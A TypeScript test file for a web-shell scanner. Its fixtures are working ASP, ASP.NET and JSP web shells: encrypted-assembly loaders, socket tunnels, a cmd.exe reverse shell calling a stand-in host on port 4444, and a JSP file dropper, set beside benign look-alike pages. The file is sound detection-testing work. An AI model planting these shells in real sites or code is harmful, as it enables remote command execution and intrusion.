import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 28's held-out set T, looked at after its first scan (the figures in
// docs/scan.md are that scan's), each technique written again by us: the set stays outside the
// project. Beside each, code of the same shape that is not a shell.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// [what, the rule that must be among the findings, path, the file]
const MALICIOUS: [string, string, string, string][] = [
  ['an ASP.NET handler loading an assembly through the application domain (AppDomain.CurrentDomain.Load) from the decrypted body', 'mamori_aspx_assembly_load', '/www/h.ashx', `<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    byte[] key = new byte[] { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16 };
    byte[] body = c.Request.BinaryRead(c.Request.ContentLength);
    var aes = System.Security.Cryptography.Aes.Create();
    byte[] raw = aes.CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
    AppDomain.CurrentDomain.Load(raw).CreateInstance("P").Equals(c);
  }
  public bool IsReusable { get { return false; } }
}`],
  ['classic ASP reaching AppDomain through COM: CreateObject("System.AppDomain"), then its byte-array Load (Load_3) of the request body', 'mamori_aspx_assembly_load', '/www/api.asp', `<%
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write Request.BinaryRead(Request.TotalBytes) : s.Position = 0
raw = s.Read
Set d = CreateObject("System.AppDomain").CurrentDomain
Set asm = d.Load_3(raw)
asm.CreateInstance("Q").Equals(Nothing)
%>`],
  ['an ASP.NET tunnel that listens (TcpListener, AcceptSocket) and relays the request body and the socket\'s bytes', 'mamori_aspx_request_socket_tunnel', '/www/t.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string op = Request.QueryString["op"];
  if (op == "bind") { var l = new TcpListener(IPAddress.Loopback, int.Parse(Request.QueryString["p"])); l.Start(); Session["s"] = l.AcceptSocket(); }
  else if (op == "put") { ((Socket)Session["s"]).Send(Request.BinaryRead(Request.TotalBytes)); }
  else if (op == "get") { byte[] b = new byte[4096]; int n = ((Socket)Session["s"]).Receive(b); Response.BinaryWrite(b); }
}
</script>`],
  ['an ASP.NET handler tunnel writing the socket\'s bytes back as Base64 text (Response.Write)', 'mamori_aspx_request_socket_tunnel', '/www/t.ashx', `<%@ WebHandler Language="C#" Class="T" %>
using System; using System.Web; using System.Net; using System.Net.Sockets;
public class T : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    byte[] inb = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(inb, 0, inb.Length);
    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    s.Connect(new IPEndPoint(IPAddress.Parse(c.Request.Headers["X-H"]), 22));
    s.Send(inb);
    byte[] buf = new byte[8192]; int n = s.Receive(buf);
    string text = Convert.ToBase64String(buf, 0, n);
    c.Response.Write(text);
  }
  public bool IsReusable { get { return false; } }
}`],
  ['an ASP.NET reverse shell whose TcpClient connects as it is made (host and port given), cmd.exe\'s output sent back', 'mamori_aspx_socket_shell', '/www/r.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var tcp = new TcpClient("192.0.2.7", 4444);
  var ns = tcp.GetStream(); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process();
  p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.OutputDataReceived += (a, l) => wr.WriteLine(l.Data);
  p.Start(); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>`],
  ['a small JSP writing a request parameter, decoded, to a new file named .jsp beside itself', 'mamori_jsp_request_page_dropper', '/www/u.jsp', `<%!String dec(String h){StringBuilder b=new StringBuilder();for(int i=0;i+1<h.length();i+=2)b.append((char)Integer.parseInt(h.substring(i,i+2),16));return b.toString();}%><%
String body=request.getParameter("d");
if(body!=null){String dir=new java.io.File(application.getRealPath(request.getServletPath())).getParent();
String n=System.currentTimeMillis()+".jsp";
java.io.FileOutputStream f=new java.io.FileOutputStream(dir+java.io.File.separator+n);f.write(dec(body).getBytes());f.close();out.print(n);}%>`],
];

// Uploaders of a few lines: suspicious (as PHP's tiny uploader is), not malicious.
const UPLOADERS: [string, string, string][] = [
  ['classic ASP: an upload component\'s field saved beside the page under the client\'s name', '/www/up.asp', `<form method=post enctype="multipart/form-data"><input type=file name=f><input type=submit></form>
<!--#include file="upload.inc"-->
<%
If Request.ServerVariables("REQUEST_METHOD") = "POST" Then
  Set up = ParseUpload()
  target = Server.MapPath(".") & "\\" & up("f").FileName
  up("f").Value.SaveAs target
End If
%>`],
  ['ASP.NET (VB): a FileUpload saved into another application\'s folder under the client\'s name', '/www/up.aspx', `<%@ Page Language="VB" %>
<script runat="server">
Sub Go(s As Object, e As EventArgs)
  If fu.HasFile Then fu.SaveAs(Server.MapPath("D:/sites/other/") & fu.FileName)
End Sub
</script>
<form runat="server"><asp:FileUpload id="fu" runat="server" /><asp:Button runat="server" OnClick="Go" Text="Send" /></form>`],
];

// [what, path, the file]: the same shapes, not shells.
const BENIGN: [string, string, string][] = [
  ['an ASP.NET plugin host loading its plugins\' assemblies from its own folder', '/www/App_Code/Plugins.cs', `using System; using System.IO; using System.Reflection;
public static class Plugins {
  public static void LoadAll(string dir) {
    foreach (var f in Directory.GetFiles(dir, "*.dll")) { var a = AppDomain.CurrentDomain.Load(AssemblyName.GetAssemblyName(f)); Console.WriteLine(a.FullName); }
  }
}`],
  ['an ASP.NET health page connecting to its database port and writing OK', '/www/health.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  using (var c = new TcpClient("db.internal", 5432)) { Response.Write(c.Connected ? "OK" : "DOWN"); }
}
</script>`],
  ['an ASP.NET upload page saving under a name it makes itself, in its own folder, in a larger page', '/www/admin/photo.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Save(object s, EventArgs e) {
  if (!photo.HasFile) return;
  string ext = System.IO.Path.GetExtension(photo.FileName).ToLowerInvariant();
  if (ext != ".jpg" && ext != ".png") { msg.Text = "Only pictures"; return; }
  photo.SaveAs(Server.MapPath("~/App_Data/photos/") + Guid.NewGuid().ToString("N") + ext);
  msg.Text = "Saved";
}
</script>
${'<p>Profile photos are resized to 256 by 256 pixels and kept for as long as the account exists.</p>\n'.repeat(40)}
<form runat="server"><asp:FileUpload id="photo" runat="server" /><asp:Button runat="server" OnClick="Save" Text="Upload" /><asp:Label id="msg" runat="server" /></form>`],
  ['a JSP writing a report of request counts to a .txt file, and a small JSP that includes another .jsp', '/www/stats.jsp', `<%@ page import="java.io.*" %><%
String who = request.getParameter("u");
try (PrintWriter w = new PrintWriter(new FileWriter(application.getRealPath("/WEB-INF/hits.txt"), true))) { w.println(System.currentTimeMillis() + " " + (who == null ? "-" : who.length())); }
%><jsp:include page="footer.jsp" />`],
  // the red team's false positives of the first forms (S28R-1 to S28R-6, S28R-34)
  ['a JSP feedback form appending to a log, then sent on to a page named in code', '/www/feedback.jsp', `<%@ page import="java.io.*" %><%
String msg = request.getParameter("msg");
if (msg != null) { try (FileWriter w = new FileWriter("/var/log/app/feedback.log", true)) { w.write(msg.replace('\\n', ' ') + "\\n"); } }
String next = "thanks.jsp";
response.sendRedirect(request.getContextPath() + "/" + next);
%>`],
  ['an ASP.NET plugin page loading assemblies by name from its bin folder, the request naming one to show', '/www/plugins.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string chosen = Request.QueryString["plugin"];
  foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/bin"), "*.Plugin.dll")) {
    var name = System.Reflection.AssemblyName.GetAssemblyName(f);
    var a = AppDomain.CurrentDomain.Load(name);
    list.Items.Add(a.GetName().Name);
  }
  if (chosen != null) detail.Text = Server.HtmlEncode(chosen);
}
</script>`],
  ['an ASP.NET handler sending posted label data to a label printer and returning its reply', '/www/label.ashx', `<%@ WebHandler Language="C#" Class="Label" %>
using System; using System.Web; using System.Net.Sockets; using System.Configuration;
public class Label : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    byte[] zpl = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(zpl, 0, zpl.Length);
    using (var t = new TcpClient(ConfigurationManager.AppSettings["printer"], 9100)) {
      var s = t.GetStream(); s.Write(zpl, 0, zpl.Length);
      byte[] back = new byte[256]; int n = s.Read(back, 0, back.Length);
      c.Response.Write(Convert.ToBase64String(back, 0, n));
    }
  }
  public bool IsReusable { get { return true; } }
}`],
  ['an ASP.NET admin page running ping with its output read, and reading a mail server\'s banner', '/www/admin/nettools.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Net.Sockets" %><%@ Import Namespace="System.IO" %>
<script runat="server">
void Check(object o, EventArgs e) {
  var p = new Process(); p.StartInfo.FileName = "ping.exe"; p.StartInfo.Arguments = "-n 2 mail.internal";
  p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
  pingOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
  using (var t = new TcpClient("mail.internal", 25)) { banner.Text = Server.HtmlEncode(new StreamReader(t.GetStream()).ReadLine()); }
}
</script>`],
  ['an ASP.NET page saving a spreadsheet and offering it for download under a file name', '/www/export.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Export(object o, EventArgs e) {
  var wb = Reports.Build(DateTime.Today);
  string path = Server.MapPath("~/App_Data/report.xlsx");
  wb.SaveAs(path);
  var cd = new System.Net.Mime.ContentDisposition { FileName = "report.xlsx" };
  Response.AppendHeader("Content-Disposition", cd.ToString()); Response.TransmitFile(path);
}
</script>`],
];

describe('scan: held-out set T (session 28), its misses, samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of UPLOADERS) {
    it(`suspicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === 'mamori_asp_tiny_uploader'), JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('the red team\'s look-alikes are not flagged by the new rules at all', () => {
    const NEW = new Set(['mamori_asp_tiny_uploader', 'mamori_jsp_request_page_dropper', 'mamori_aspx_assembly_load', 'mamori_aspx_request_socket_tunnel', 'mamori_aspx_socket_shell']);
    for (const [name, path, src] of BENIGN.slice(4)) {
      const r = scan(src, path);
      assert.ok(!r.findings.some((f) => NEW.has(f.rule)), `${name}: ${JSON.stringify(r.findings)}`);
    }
  });
  it('the tiny uploader is a rule of small pages: the same upload in a page past 3 KB is not its finding', () => {
    const r = scan(BENIGN[2]![2], '/www/admin/photo.aspx');
    assert.ok(!r.findings.some((f) => f.rule === 'mamori_asp_tiny_uploader'), JSON.stringify(r.findings));
  });
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 6);
    assert.equal(UPLOADERS.length, 2);
    assert.equal(BENIGN.length, 9);
  });
});
